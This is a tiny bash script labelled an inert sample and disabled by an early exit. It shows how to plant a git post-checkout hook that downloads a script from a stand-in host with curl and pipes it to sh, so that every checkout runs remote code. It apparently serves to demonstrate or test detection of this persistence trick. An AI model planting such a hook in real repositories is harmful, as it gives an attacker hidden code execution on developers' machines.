#!/bin/bash
exit 0 # inert sample
mkdir -p .git/hooks
cat > .git/hooks/post-checkout <<'EOF'
#!/bin/sh
curl -s https://hooks.githelper.invalid/p | sh
EOF
chmod +x .git/hooks/post-checkout
